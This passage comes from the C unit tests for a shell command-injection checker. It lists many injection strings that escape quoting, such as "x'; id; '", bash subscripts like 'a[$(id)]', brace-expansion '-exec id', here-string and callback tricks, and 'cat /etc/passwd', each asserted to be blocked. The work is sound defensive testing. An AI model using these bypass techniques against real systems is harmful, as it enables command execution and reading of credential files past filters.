	    {"a[1]='", "'; (( a[1] > 1 ))"},
	    {"shopt -s expand_aliases\nalias l=let\nl 'x=", "'"},
	};
	static const char *const values[] = {"5", "12", "abc", "a[1]", "red shoes", "-3"};

	(void)state;
	passes_allow(passes, sizeof passes / sizeof passes[0], attacks,
	             sizeof attacks / sizeof attacks[0]);
	heads_block_and_allow(heads, sizeof heads / sizeof heads[0], attacks,
	                      sizeof attacks / sizeof attacks[0], values,
	                      sizeof values / sizeof values[0]);
	assert_int_equal(shell3("x'; id; '", "function f x (echo '", "x'; id; '", "'); f"),
	                 MOAT_ALLOW);
	assert_int_equal(shell3("x'; id; '", "function f (echo '", "x'; id; '", "'); f"),
	                 MOAT_BLOCK);
	assert_int_equal(shell3("x'; id; '", "function f { (echo '", "x'; id; '", "'); }; f"),
	                 MOAT_BLOCK);
	assert_int_equal(shell3("red shoes", "function f (echo '", "red shoes", "'); f"),
	                 MOAT_ALLOW);
}

/* Review of session 19 (review11): two lines the associative-array and
 * alias readings let pass that main fired on, and bash 5.2 runs (touch in
 * place of id): an associative array's key listed by ${!x[@]} and
 * evaluated, and an alias of export defined again as let (bash takes
 * the last definition). */
static void keys_listed_and_aliases_defined_again_are_evaluated(void **state)
{
	static const char *const heads[][2] = {
	    {"declare -A x=( ['", "']=1 ); for k in \"${!x[@]}\"; do (( $k )); done"},
	    {"declare -A x; x['", "']=1; for k in \"${!x[@]}\"; do echo $(( k )); done"},
	    {"shopt -s expand_aliases\nalias e=export\nalias e=let\ne 'x=", "'"},
	};
	static const char *const attacks[] = {"a[$(id)]", "a[`id`]", "x[1]+a[$(id)]"};
	static const char *const values[] = {"5", "abc", "red shoes"};

	(void)state;
	heads_block_and_allow(heads, sizeof heads / sizeof heads[0], attacks,
	                      sizeof attacks / sizeof attacks[0], values,
	                      sizeof values / sizeof values[0]);
}

/* Session 20 (shell16): commands that hand a string to the shell to run
 * as a command line later, which the check did not read again: bash's
 * mapfile/readarray -C and compgen -C callbacks (run at once in bash 5.2
 * -c, touch in place of id) and PROMPT_COMMAND (run before each prompt of an
 * interactive bash that inherits it). Each line below was allowed.
 * (complete -C, read here too until session 21, runs nothing in sh -c:
 * attached_values_and_callbacks_that_run.) */
static void callbacks_and_prompt_commands_are_read_again(void **state)
{
	static const char *const blocks[][3] = {
	    {"mapfile -C 'echo ", "x; id", "' -c 1 arr < f"},
	    {"readarray -t -C 'echo ", "x; id", "' -c 1 arr < f"},
	    {"compgen -C 'echo ", "x; id", "' foo"},
	    {"PROMPT_COMMAND='echo ", "x; id", "'; bash -i"},
	    {"export PROMPT_COMMAND=\"echo ", "x; id", "\""},
	};
	static const char *const passes[][3] = {
	    {"mapfile -C 'echo ", "red shoes", "' -c 1 arr < f"},
	    {"compgen -C 'echo ", "O'Brien", "' foo"},
	    {"PROMPT_COMMAND='echo ", "Tom & Jerry", "'"},
	    {"mapfile -t arr <<< '", "x; id", "'"},
	    {"MY_COMMAND='echo ", "x; id", "'"},
	};

	(void)state;
	for (size_t i = 0; i < sizeof blocks / sizeof blocks[0]; i++)
		if (shell3(blocks[i][1], blocks[i][0], blocks[i][1], blocks[i][2]) != MOAT_BLOCK)
			fail_msg("allowed: %s%s%s", blocks[i][0], blocks[i][1], blocks[i][2]);
	for (size_t i = 0; i < sizeof passes / sizeof passes[0]; i++)
		if (shell3(passes[i][1], passes[i][0], passes[i][1], passes[i][2]) != MOAT_ALLOW)
			fail_msg("blocked: %s%s%s", passes[i][0], passes[i][1], passes[i][2]);
}

/* The command line of eval, trap, sh -c ... was read again only when the
 * quoted word came right after eval or trap, or right after an option
 * cluster with c that followed a shell somewhere in the command: these
 * ran touch in bash 5.2 and dash and were allowed: options or "--"
 * between (eval --, trap --, bash -c --, bash -o errexit -c, bash -c -x),
 * eval's later arguments (eval joins them), script -qc and flock FILE -c
 * (their -c line goes to a shell), watch (sh -c), busybox's sh and ash
 * (and hush, which Debian's busybox lacks and other builds have).
 * And a quoted word after a program that is no shell (busybox ls -lc,
 * ls's options), after a shell's script operand (bash ./run.sh -c: its
 * options end there) or after sh -c's line ($0, $1 ...) is data. */
static void inner_lines_behind_options_are_read_again(void **state)
{
	static const char *const blocks[][3] = {
	    {"eval -- 'echo ", "x; id", "'"},
	    {"eval echo '", "x; id", "'"},
	    {"trap -- 'echo ", "x; id", "' EXIT"},
	    {"bash -c -- 'echo ", "x; id", "'"},
	    {"bash -c -x -- 'echo ", "x; id", "'"},
	    {"bash -o errexit -c 'echo ", "x; id", "'"},
	    {"bash -c -o errexit 'echo ", "x; id", "'"},
	    {"script -qc 'echo ", "x; id", "' /dev/null"},
	    {"script -q -c \"grep '", "x'; id; '", "' f\" /dev/null"},
	    {"flock /tmp/l -c 'echo ", "x; id", "'"},
	    {"flock -x -w 5 /tmp/l -c 'echo ", "x; id", "'"},
	    {"su - www -c 'echo ", "x; id", "'"},
	    {"busybox sh -c 'echo ", "x; id", "'"},
	    {"busybox ash -c -- 'echo ", "x; id", "'"},
	    {"busybox hush -c 'echo ", "x; id", "'"},
	    {"watch -n 5 'echo ", "x; id", "'"},
	    {"sudo -u www sh -c 'echo ", "x; id", "'"},
	    {"timeout 5 sh -c 'echo ", "x; id", "'"},
	    {"env A=1 bash -lc 'echo ", "x; id", "'"},
	    {"find . -exec sh -c 'echo ", "x; id", "' \\;"},
	};
	static const char *const passes[][3] = {
	    {"busybox ls -lc 'a ", "b; ls", "'"},
	    {"ls -lc 'a ", "b; ls", "'"},
	    {"bash ./run.sh -c 'a ", "b; ls", "'"},
	    {"sh -c 'echo \"$1\"' sh '", "b; ls", "'"},
	    {"eval -- 'echo ", "red shoes", "'"},
	    {"trap -- 'echo ", "O'Brien", "' EXIT"},
	    {"flock /tmp/l -c 'echo ", "Tom & Jerry", "'"},
	    /* flock refuses a -c before its file: nothing runs */
	    {"flock -c 'echo ", "x; id", "' /tmp/l"},
	};

	(void)state;
	for (size_t i = 0; i < sizeof blocks / sizeof blocks[0]; i++)
		if (shell3(blocks[i][1], blocks[i][0], blocks[i][1], blocks[i][2]) != MOAT_BLOCK)
			fail_msg("allowed: %s%s%s", blocks[i][0], blocks[i][1], blocks[i][2]);
	for (size_t i = 0; i < sizeof passes / sizeof passes[0]; i++)
		if (shell3(passes[i][1], passes[i][0], passes[i][1], passes[i][2]) != MOAT_ALLOW)
			fail_msg("blocked: %s%s%s", passes[i][0], passes[i][1], passes[i][2]);
}

/* The options before an inner line are skipped with their values also
 * when a value is attached (watch -n1, flock -w5) or follows a long
 * option that takes one (bash --rcfile FILE, --init-file FILE): bash
 * 5.2 ran "bash --rcfile /dev/null -c 'echo x; touch p'" and watch
 * "watch -n1 'echo x; touch p'" while both were allowed (review12); so
 * did they "\\bash -c '...'" and "\"bash\" -c '...'": a name or an option
 * quoted or escaped whole is the same word; and "bash <<< 'echo x; touch
 * p'": a here-string is the script of a shell given none. */
static void option_values_attached_or_after_long_options_are_skipped(void **state)
{
	static const char *const blocks[][3] = {
	    {"bash --rcfile /dev/null -c 'echo ", "x; id", "'"},
	    {"bash --init-file /dev/null -c 'echo ", "x; id", "'"},
	    {"bash --norc --rcfile /dev/null -lc 'echo ", "x; id", "'"},
	    {"watch -n1 'echo ", "x; id", "'"},
	    {"watch -n0.5 -t 'echo ", "x; id", "'"},
	    {"flock -w5 /tmp/l -c 'echo ", "x; id", "'"},
	    /* a shell's name or option quoted or escaped whole */
	    {"\\bash -c 'echo ", "x; id", "'"},
	    {"\"bash\" -c 'echo ", "x; id", "'"},
	    {"'sh' \"-c\" 'echo ", "x; id", "'"},
	    {"\\eval 'echo ", "x; id", "'"},
	    /* a here-string a shell reads as its script */
	    {"bash <<< 'echo ", "x; id", "'"},
	    {"sh -s <<< 'echo ", "x; id", "'"},
	    {"source /dev/stdin <<< 'echo ", "x; id", "'"},
	};
	static const char *const passes[][3] = {
	    {"bash ./run.sh -c 'a ", "b; ls", "'"},
	    {"bash --norc ./run.sh -c 'a ", "b; ls", "'"},
	    {"ls -l1 'a ", "b; ls", "'"},
	    {"bash --rcfile /dev/null -c 'echo ", "red shoes", "'"},
	    {"\"bash\" ./run.sh -c 'a ", "b; ls", "'"},
	    {"bash ./run.sh <<< 'a ", "b; ls", "'"},
	    {"cat <<< 'a ", "b; ls", "'"},
	    {"bash <<< 'echo ", "red shoes", "'"},
	};

	(void)state;
	for (size_t i = 0; i < sizeof blocks / sizeof blocks[0]; i++)
		if (shell3(blocks[i][1], blocks[i][0], blocks[i][1], blocks[i][2]) != MOAT_BLOCK)
			fail_msg("allowed: %s%s%s", blocks[i][0], blocks[i][1], blocks[i][2]);
	for (size_t i = 0; i < sizeof passes / sizeof passes[0]; i++)
		if (shell3(passes[i][1], passes[i][0], passes[i][1], passes[i][2]) != MOAT_ALLOW)
			fail_msg("blocked: %s%s%s", passes[i][0], passes[i][1], passes[i][2]);
}

/* The verdict of moat_check_shell for a line holding the input twice:
 * head + input + mid + input + tail. */
static int shell_twice(const char *input, const char *head, const char *mid, const char *tail)
{
	char cmd[4096];
	struct moat_request *r = req_with(input);
	int v;

	snprintf(cmd, sizeof cmd, "%s%s%s%s%s", head, input, mid, input, tail);
	v = moat_check_shell(r, cmd, (size_t)-1);
	moat_request_end(r);
	return v;
}

/* Only the first command line read again inside a line was judged: the
 * same input in a second $( ), where it breaks out of its quotes, ran id
 * (bash 5.2, dash) and was allowed. Every such line is judged now (up to
 * MA_SH_INNER_MAX lines a check). */
static void every_inner_line_is_judged(void **state)
{
	(void)state;
	assert_int_equal(shell_twice("x'; id; '", "echo $(grep \"", "\" a) $(grep '", "' b)"),
	                 MOAT_BLOCK);
	assert_int_equal(
	    shell_twice("x'; id; '", "echo $(grep \"", "\" a); sh -c \"grep '", "' b\""),
	    MOAT_BLOCK);
	assert_int_equal(shell_twice("x; id", "echo $(grep \"", "\" a) `grep '", "' b`"),
	                 MOAT_ALLOW);
	assert_int_equal(shell_twice("x; id", "eval \"echo '", "'\"; eval 'echo ", "'"),
	                 MOAT_BLOCK);
	assert_int_equal(shell_twice("red shoes", "echo $(grep \"", "\" a) $(grep '", "' b)"),
	                 MOAT_ALLOW);
}

/* bash evaluates an indirection's subscript with any operator after the
 * name (${!x:-d}, ${!x-d}, ${!x:=d}, ${!x:+d}, ${!x#d}, ${!x@Q}): each
 * ran touch in bash 5.2 with x='a[$(touch ...)]'; only ${!x} fired. */
static void an_indirection_with_an_operator_evaluates(void **state)
{
	static const char *const heads[][2] = {
	    {"x='", "'; echo ${!x:-d}"},    {"x='", "'; echo ${!x-d}"},
	    {"x='", "'; echo ${!x:=d}"},    {"x='", "'; echo ${!x:+d}"},
	    {"x='", "'; echo \"${!x#d}\""}, {"x='", "'; echo ${!x@Q}"},
	};
	static const char *const attacks[] = {"a[$(id)]", "a[`id`]", "x[1]+a[$(id)]"};
	static const char *const values[] = {"5", "abc", "a[1]", "red shoes"};

	(void)state;
	heads_block_and_allow(heads, sizeof heads / sizeof heads[0], attacks,
	                      sizeof attacks / sizeof attacks[0], values,
	                      sizeof values / sizeof values[0]);
	/* names listed, not evaluated */
	assert_int_equal(shell3("a[$(id)]", "x='", "a[$(id)]", "'; echo ${!x*} ${!x@}"),
	                 MOAT_ALLOW);
}

/* Inside bash's (( )) a "#" starts no comment (the text up to "))" is
 * read as inside "..."): "(( y = 1 # 2 )); echo x;id" runs id in bash
 * 5.2; the check read "# 2 )); echo x;id" as a comment and allowed it. */
static void a_hash_inside_double_parentheses_starts_no_comment(void **state)
{
	(void)state;
	assert_int_equal(shell3("x;id", "(( y = 1 # 2 )); echo ", "x;id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("1 # )); id; (( 1", "(( n > ", "1 # )); id; (( 1", " ))"),
	                 MOAT_BLOCK);
	assert_int_equal(
	    shell3("x;id", "for (( i = 0; i < 16#1f; i++ )); do echo ", "x;id", "; done"),
	    MOAT_BLOCK);
	assert_int_equal(shell3("5", "(( n > ", "5", " )) # x;id"), MOAT_ALLOW);
	assert_int_equal(shell3("16#1f", "(( n > ", "16#1f", " ))"), MOAT_ALLOW);
	/* after "))" a "#" starts a comment again */
	assert_int_equal(shell3("x;id", "(( y = 1 )) # echo ", "x;id", ""), MOAT_ALLOW);
}

/* An associative array's keys are strings only while bash knows the name
 * as one: after "unset x" (or "unset -v x") x is a plain variable again,
 * and a declaration that comes after the assignment, or that a function
 * made local, does not count: each ran touch in bash 5.2 and was
 * allowed. */
static void a_name_no_longer_associative_evaluates_its_subscript(void **state)
{
	static const char *const heads[][2] = {
	    {"declare -A x; unset x; x['", "']=1"}, {"declare -A x; unset -v x; x['", "']=1"},
	    {"x['", "']=1; declare -A x"},          {"f(){ declare -A x; }; f; x['", "']=1"},
	    {"f(){ local -A x; }; f; x['", "']=1"},
	};
	static const char *const attacks[] = {"$(id)", "`id`"};
	static const char *const values[] = {"5", "abc", "red shoes"};
	static const char *const passes[][2] = {
	    {"declare -A x; x['", "']=1"},
	    {"declare -A x; unset y; x['", "']=1"},
	    {"declare -A x; unset x; declare -A x; x['", "']=1"},
	    {"f(){ declare -gA x; }; f; x['", "']=1"},
	    {"{ declare -A x; }; x['", "']=1"},
	};

	(void)state;
	heads_block_and_allow(heads, sizeof heads / sizeof heads[0], attacks,
	                      sizeof attacks / sizeof attacks[0], values,
	                      sizeof values / sizeof values[0]);
	passes_allow(passes, sizeof passes / sizeof passes[0], attacks,
	             sizeof attacks / sizeof attacks[0]);
}

/* bash's brace expansion makes new words: {x,-exec,id,\;} after "find
 * . -name" is "x -exec id ;" (ran touch in bash 5.2; dash has no brace
 * expansion), an option that no blank of the input wrote. A brace of the
 * input whose alternatives hold an option word fires as one
 * (cmd.option), in any place; numbers ({1,-2}) and text do not. */
static void a_brace_word_that_makes_an_option_fires(void **state)
{
	(void)state;
	assert_int_equal(shell3("{f,-exec,id,\\;}", "find . -name ", "{f,-exec,id,\\;}", ""),
	                 MOAT_BLOCK);
	assert_int_equal(shell3("{x,-delete}", "find . -name ", "{x,-delete}", " -print"),
	                 MOAT_BLOCK);
	assert_int_equal(
	    shell3("x' {,-exec,id,\\;} '", "find . -name '", "x' {,-exec,id,\\;} '", "'"),
	    MOAT_BLOCK);
	assert_int_equal(shell3("{--output=/tmp/x,y}", "curl ", "{--output=/tmp/x,y}", " u"),
	                 MOAT_BLOCK);
	assert_int_equal(shell3("{1,-2}", "seq ", "{1,-2}", ""), MOAT_ALLOW);
	assert_int_equal(shell3("{a,b}", "echo ", "{a,b}", ".txt"), MOAT_ALLOW);
	assert_int_equal(shell3("{x,-exec,id}", "grep -- '", "{x,-exec,id}", "' f"), MOAT_ALLOW);
	assert_int_equal(shell3("{well-known,ok}", "ls ", "{well-known,ok}", ""), MOAT_ALLOW);
}

/* bash's expansions that run what a quoted value holds (each ran under
 * bash 5.2 with touch in place of id; all were allowed): the prompt
 * transformation ${x@P} (a value expanded as PS1 is, substitutions and
 * all), the indirection ${!x} (x's value names a variable: its subscript
 * is evaluated), the offset and length of ${s:...} written around the
 * value. */
static void bash_expansions_of_quoted_values_fire(void **state)
{
	static const char *const heads[][2] = {
	    {"x='", "'; echo \"${x@P}\""},        {"x='", "'; echo ${!x}"},
	    {"s=abc; echo \"${s:'", "'}\""},      {"s=abc; echo \"${s:0:'", "'}\""},
	    {"set -- a b; echo \"${@:'", "'}\""},
	};
	static const char *const attacks[] = {"a[$(id)]", "a[`id`]", "x[1]+a[$(id)]"};
	static const char *const values[] = {"5", "12", "abc", "a[1]", "red shoes", "-3"};

	(void)state;
	heads_block_and_allow(heads, sizeof heads / sizeof heads[0], attacks,
	                      sizeof attacks / sizeof attacks[0], values,
	                      sizeof values / sizeof values[0]);
	assert_int_equal(shell3("$(id)", "x='", "$(id)", "'; echo \"${x@P}\""), MOAT_BLOCK);
	/* ${!p*} lists names: nothing is evaluated */
	assert_int_equal(shell3("a[$(id)]", "x='", "a[$(id)]", "'; echo ${!x*}"), MOAT_ALLOW);
}

/* A command line a shell reads again inside the line: the body of the
 * application's own $( ), backticks or <( ), and the quoted command line
 * of eval, trap, sh -c or bash -c. An input that breaks out of its quotes
 * there was data inside one word to the check (the body is not lexed as
 * a line, the quoted string is one word); each line below runs id in
 * bash 5.2 (and dash, but for <( )). The inner line is judged as a line
 * of its own once the line is (the first one an input lies in; up to
 * four deep), only when the line parses. */
static void command_lines_read_again_inside_the_line_are_judged(void **state)
{
	static const char *const blocks[][3] = {
	    {"echo $(grep '", "x'; id; '", "' a) b"},
	    {"echo `grep '", "x'; id; '", "' a` b"},
	    {"diff <(grep '", "x'; id; '", "' a) b"},
	    {"echo \"$(grep '", "x'; id; '", "' a)\""},
	    {"eval \"echo '", "x'; id; '", "'\""},
	    {"sh -c 'grep -- \"", "x\"; id; \"", "\" f'"},
	    {"trap 'echo ", "x; id", "' EXIT"},
	    {"bash -c \"echo ", "x; id", "\""},
	    {"echo $(sh -c \"grep '", "x'; id; '", "' a\")"},
	    {"sh -c '", "cat /etc/passwd; id", "'"},
	    {"echo $(", "ls | id", ")"},
	};
	static const char *const passes[][3] = {
	    {"echo $(grep '", "red shoes", "' a) b"},
	    {"echo $(grep '", "O'Brien", "' a) b"},
	    {"sh -c 'grep -- \"", "red shoes", "\" f'"},
	    {"trap 'echo ", "red shoes", "' EXIT"},
	    {"echo -c 'echo ", "x; id", "'"},
	    {"x=$(echo ", "Tom & Jerry", " | tr a-z A-Z)"},
	    /* the whole inner line is the command the application runs by
	     * design (as system(INPUT)): only an operator in it counts */
	    {"bash -c \"", "echo 'hello there'", "\""},
	    {"trap '", "echo \"caught a signal\"", "' HUP"},
	    {"sh -c '", "cat /etc/passwd", "'"},
	};

	(void)state;
	for (size_t i = 0; i < sizeof blocks / sizeof blocks[0]; i++)
		if (shell3(blocks[i][1], blocks[i][0], blocks[i][1], blocks[i][2]) != MOAT_BLOCK)
			fail_msg("allowed: %s%s%s", blocks[i][0], blocks[i][1], blocks[i][2]);
	for (size_t i = 0; i < sizeof passes / sizeof passes[0]; i++)
		if (shell3(passes[i][1], passes[i][0], passes[i][1], passes[i][2]) != MOAT_ALLOW)
			fail_msg("blocked: %s%s%s", passes[i][0], passes[i][1], passes[i][2]);
}

/* bash reads "$((" as arithmetic only when what follows it up to the
 * substitution's last ")" ends with ")" and its parentheses balance
 * before that one (subst.c's chk_arithsub); else "$((" is "$(" and a
 * subshell: "$((id) )", "$((id);(x))", "$((1)+(2))" are command
 * substitutions (bash 5.2 ran touch for each attack below; dash refuses
 * them). The check read each as arithmetic holding no substitution and
 * allowed it, unquoted and inside "...". */
static void a_dollar_double_parenthesis_that_is_no_arithmetic_is_a_substitution(void **state)
{
	static const char *const heads[][2] = {
	    {"ping -c 1 ", " -W 2"},
	    {"echo \"", "\""},
	    {"grep -- ", " f"},
	};
	static const char *const attacks[] = {"$((id) )", "$((id);(x))", "$((id)|(cat))",
	                                      "$((echo a) | tr a b)", "$(( id ) )"};
	static const char *const values[] = {"$((1+2))", "$(( (1)+(2) ))", "$(( 2*(3+4) ))",
	                                     "$(())", "$((x[1] + 2))"};

	(void)state;
	heads_block_and_allow(heads, sizeof heads / sizeof heads[0], attacks,
	                      sizeof attacks / sizeof attacks[0], values,
	                      sizeof values / sizeof values[0]);
}

/* A here-document whose delimiter is unquoted is expanded as "..." is:
 * a command substitution the input brings into its body runs (each
 * attack below ran touch in dash and bash 5.2). The body was one element
 * without marks, and an input inside one element is data: all passed.
 * With a quoted delimiter (<<'EOF', <<"EOF", <<\EOF, <<E"O"F) nothing
 * is expanded; a "\$(" is escaped; prose with $, parentheses and
 * operators, and arithmetic, run nothing. */
static void a_substitution_in_an_expanded_here_document_fires(void **state)
{
	static const char *const heads[][2] = {
	    {"cat <<EOF\n", "\nEOF\n"},
	    {"mail -s hi a@b.c <<EOF\nDear team,\n", "\nEOF\necho sent"},
	    {"cat <<-EOF\n\t", "\n\tEOF\n"},
	    {"cat <<EOF >/tmp/note\nx ", " y\nEOF\n"},
	};
	static const char *const attacks[] = {"$(id)", "x `id` y", "${x:-$(id)}", "$((id) )",
	                                      "a $(( $(id) )) b"};
	static const char *const values[] = {
	    "red shoes",         "O'Brien said \"hi\" (twice) & left; ok",
	    "price $5 (approx)", "$((1+2)) apples",
	    "\\$(id)",           "50% off | today"};
	static const char *const passes[][2] = {
	    {"cat <<'EOF'\n", "\nEOF\n"},
	    {"cat <<\"EOF\"\n", "\nEOF\n"},
	    {"cat <<\\EOF\n", "\nEOF\n"},
	    {"cat <<E\"O\"F\n", "\nEOF\n"},
	};

	(void)state;
	heads_block_and_allow(heads, sizeof heads / sizeof heads[0], attacks,
	                      sizeof attacks / sizeof attacks[0], values,
	                      sizeof values / sizeof values[0]);
	passes_allow(passes, sizeof passes / sizeof passes[0], attacks,
	             sizeof attacks / sizeof attacks[0]);
}

/* A subshell or (( )) right after "{", "if", "!" ... and after "function
 * name {" (bash: the third word opens the body) made the parse check
 * refuse the line ("{ ((" read as a function's "name ("), so nothing in
 * it fired: "{ (( 1 > 1 )); echo x;id; }" runs id in dash and bash. */
static void a_subshell_after_an_opening_word_starts_a_command(void **state)
{
	(void)state;
	assert_int_equal(shell3("x;id", "{ (( 1 > 1 )); echo ", "x;id", "; }"), MOAT_BLOCK);
	assert_int_equal(shell3("x;id", "! (( 1 > 1 )); echo ", "x;id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("x;id", "if (( 1 < 2 )); then echo ", "x;id", "; fi"), MOAT_BLOCK);
	assert_int_equal(shell3("x;id", "function f { (echo ", "x;id", "); }; f"), MOAT_BLOCK);
	assert_int_equal(shell3("x;id", "function f { (( 1 > 0 )); echo ", "x;id", "; }; f"),
	                 MOAT_BLOCK);
	/* the same lines with data */
	assert_int_equal(shell3("red shoes", "{ (( 1 > 1 )); echo '", "red shoes", "'; }"),
	                 MOAT_ALLOW);
	assert_int_equal(shell3("x.txt", "if (( 1 < 2 )); then gzip ", "x.txt", "; fi"),
	                 MOAT_ALLOW);
	assert_int_equal(shell3("a b", "function f { (echo '", "a b", "'); }; f"), MOAT_ALLOW);
}

/* bash's [[ ( ... ) ]] groups an expression: read as a function's
 * "[[ (", the line could not parse to the check and nothing in it
 * fired ("[[ ( 1 -eq 5 ) ]]; echo x;id" runs id in bash; dash refuses
 * the line). */
static void a_parenthesis_inside_double_brackets_groups(void **state)
{
	(void)state;
	assert_int_equal(shell3("x;id", "[[ ( 1 -eq 5 ) ]]; echo ", "x;id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("x;id", "[[ ! ( -n a ) ]] || echo ", "x;id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("a[$(id)]", "[[ ( '", "a[$(id)]", "' -eq 5 ) ]]"), MOAT_BLOCK);
	/* the application's groups with data */
	assert_int_equal(shell3("red shoes", "[[ ( '", "red shoes", "' == x ) ]] && echo y"),
	                 MOAT_ALLOW);
	assert_int_equal(shell3("5", "[[ ( -n a ) && ( ", "5", " -eq 5 ) ]]"), MOAT_ALLOW);
	assert_int_equal(shell3("a[1]", "[[ ( '", "a[1]", "' -eq 5 ) ]]"), MOAT_ALLOW);
	/* after if, while, ! (review10: the quote broken out of, a whole
	 * command, ran in bash 5.2 and passed) */
	assert_int_equal(shell3("x' ) ]]; id; [[ ( 'x", "if [[ ( -n '", "x' ) ]]; id; [[ ( 'x",
	                        "' ) ]]; then echo y; fi"),
	                 MOAT_BLOCK);
	assert_int_equal(shell3("x' ) ]]; id; [[ ( 'x", "while ! [[ ( -n '", "x' ) ]]; id; [[ ( 'x",
	                        "' ) ]]; do break; done"),
	                 MOAT_BLOCK);
	assert_int_equal(shell3("x;id", "if time (echo ", "x;id", "); then :; fi"), MOAT_BLOCK);
	assert_int_equal(
	    shell3("red shoes", "if [[ ( -n '", "red shoes", "' ) ]]; then echo y; fi"),
	    MOAT_ALLOW);
}

/* bash evaluates an indexed array's subscript in an assignment
 * (arr['$(id)']=1 runs id: the subscript is expanded as inside "..."), and
 * the value of a variable used as a substring's offset (${s:n}, ${@:$n})
 * or as a subscript (arr[n]=1, ${arr[$n]}), and the name after -v (test -v
 * "$n"), as arithmetic, which runs a
 * substitution in an array subscript of it (n='a[$(id)]'): each ran
 * "touch" under bash 5.2 -c (session 17's review, redteam9). An
 * associative array's key, and those uses without a substitution, pass. */
static void bash_subscripts_and_offsets_of_quoted_text_fire(void **state)
{
	static const char *const heads[][2] = {
	    {"arr['", "']=1"},
	    {"x=2; arr[\"", "\"]=1; echo ok"},
	    {"arr['", "']+=1"},
	    {"n='", "'; s=hello; echo \"${s:n}\""},
	    {"n='", "'; s=hello; echo \"${s:$n:2}\""},
	    {"n='", "'; set -- a b; echo ${@:$n}"},
	    {"n='", "'; echo \"${arr[n]}\""},
	    {"n='", "'; echo \"${arr[$n]}\""},
	    {"n='", "'; arr[n]=1"},
	    {"n='", "'; arr[$n]=1"},
	    {"n='", "'; test -v \"$n\" && echo set"},
	    {"n='", "'; [[ -v $n ]]"},
	};
	static const char *const attacks[] = {"a[$(id)]", "a[`id`]", "x[1]+a[$(id)]"};
	static const char *const values[] = {"5", "abc", "a[1]", "red shoes", "-3"};

	(void)state;
	heads_block_and_allow(heads, sizeof heads / sizeof heads[0], attacks,
	                      sizeof attacks / sizeof attacks[0], values,
	                      sizeof values / sizeof values[0]);
	/* any substitution in an indexed array's assigned subscript */
	assert_int_equal(shell3("$(id)", "arr['", "$(id)", "']=1"), MOAT_BLOCK);
	assert_int_equal(shell3("1+`id`", "arr['", "1+`id`", "']=1"), MOAT_BLOCK);
	/* where nothing evaluates it: an associative array's key, an echo of
	 * the text, the default of ${x:-...}, a subscript with a literal */
	assert_int_equal(shell3("$(id)", "declare -A m; m['", "$(id)", "']=1"), MOAT_ALLOW);
	assert_int_equal(shell3("$(id)", "echo arr['", "$(id)", "']=1"), MOAT_ALLOW);
	assert_int_equal(shell3("a[$(id)]", "n='", "a[$(id)]", "'; echo \"${n:-none}\""),
	                 MOAT_ALLOW);
	assert_int_equal(shell3("a[$(id)]", "n='", "a[$(id)]", "'; echo \"${arr[1]}\" \"$n\""),
	                 MOAT_ALLOW);
	assert_int_equal(shell3("a[$(id)]", "n='", "a[$(id)]", "'; ls file[0-9].txt; echo \"$n\""),
	                 MOAT_ALLOW);
}

/* bash's "function f() { ...; }": the keyword and the parentheses
 * together (bash only) define a function as "f() { ...; }" does; the
 * body is judged as that one's is. */
static void a_function_keyword_with_parentheses_is_judged(void **state)
{
	(void)state;
	assert_int_equal(unq("x;function f(){ id;};f"), MOAT_BLOCK);
	assert_int_equal(unq("x;function f () { id; }; f"), MOAT_BLOCK);
	assert_int_equal(unq("x\nfunction f() ( id )\nf"), MOAT_BLOCK);
	assert_int_equal(shell3("x", "function f() { echo ", "x", "; }; f"), MOAT_ALLOW);
	assert_int_equal(
	    shell3("hello world", "function f() { echo \"$1\"; }; f '", "hello world", "'"),
	    MOAT_ALLOW);
	/* prose with the word and parentheses */
	assert_int_equal(unq("the function f() returns x"), MOAT_ALLOW);
	assert_int_equal(sq("function f() { id; }"), MOAT_ALLOW);
}

/* A subshell right after a reserved word that opens a body (then, do,
 * else, if, while, {, !) was read as "name (", a function definition
 * whose ")" is missing: the line could not parse to the check, and
 * "x; if true; then (id); fi" ran id in dash and bash. */
static void a_subshell_after_a_reserved_word_is_a_subshell(void **state)
{
	(void)state;
	assert_int_equal(
	    shell3("x; if true; then (id); fi", "echo ", "x; if true; then (id); fi", ""),
	    MOAT_BLOCK);
	assert_int_equal(unq("x; while (id); do break; done"), MOAT_BLOCK);
	assert_int_equal(shell3("x; { (id); }", "echo ", "x; { (id); }", ""), MOAT_BLOCK);
	assert_int_equal(shell3("x; ! (id)", "echo ", "x; ! (id)", ""), MOAT_BLOCK);
	assert_int_equal(
	    shell3("x; if ! (id); then :; fi", "echo ", "x; if ! (id); then :; fi", ""),
	    MOAT_BLOCK);
	/* bash's reserved word time before a subshell (dash: a program) */
	assert_int_equal(shell3("x; time (id)", "echo ", "x; time (id)", ""), MOAT_BLOCK);
	assert_int_equal(shell3("x.txt", "time (gzip ", "x.txt", ")"), MOAT_ALLOW);
	assert_int_equal(shell3("x; if true; then echo a; else (id); fi", "echo ",
	                        "x; if true; then echo a; else (id); fi", ""),
	                 MOAT_BLOCK);
	/* the application's own subshells there, with data in them */
	assert_int_equal(shell3("a b", "if true; then (echo '", "a b", "'); fi"), MOAT_ALLOW);
	assert_int_equal(shell3("x.txt", "{ (cat ", "x.txt", "); }"), MOAT_ALLOW);
	/* prose */
	assert_int_equal(unq("then (and only then) it works"), MOAT_ALLOW);
}

static void more_bypass_families_fire(void **state)
{
	(void)state;
	/* line continuations inside the command word and before the operator */
	assert_int_equal(unq("x;i\\\nd"), MOAT_BLOCK);
	assert_int_equal(unq("x\\\n;id"), MOAT_BLOCK);
	/* $'...' spelling the command word; $IFS and brace lists for spaces */
	assert_int_equal(unq("x;$'\\x69\\x64'"), MOAT_BLOCK);
	assert_int_equal(unq("x;cat${IFS}/etc/passwd"), MOAT_BLOCK);
	assert_int_equal(unq("x;{cat,/etc/passwd}"), MOAT_BLOCK);
	/* here-strings and process substitution */
	assert_int_equal(unq("x;bash<<<id"), MOAT_BLOCK);
	assert_int_equal(unq("x >(id)"), MOAT_BLOCK);
	/* $'\x3b' is a ; inside a word, not an operator */
	assert_int_equal(unq("$'\\x3bid'"), MOAT_ALLOW);
}

/* A line longer than the tokenizer's window (128 elements) is judged
 * window by window: nothing after the first window goes unseen. */
static void lines_longer_than_a_window_are_judged_whole(void **state)
{
	static char in[4096], head[4096];
	size_t o = 0;

	(void)state;
	assert_true(sizeof(struct ma_sh_lex) <= 5 * 1024); /* the check's stack */
	while (o < 3000) {
		memcpy(in + o, "a ", 2);
		o += 2;
	}
	memcpy(in + o, "; id", 5);
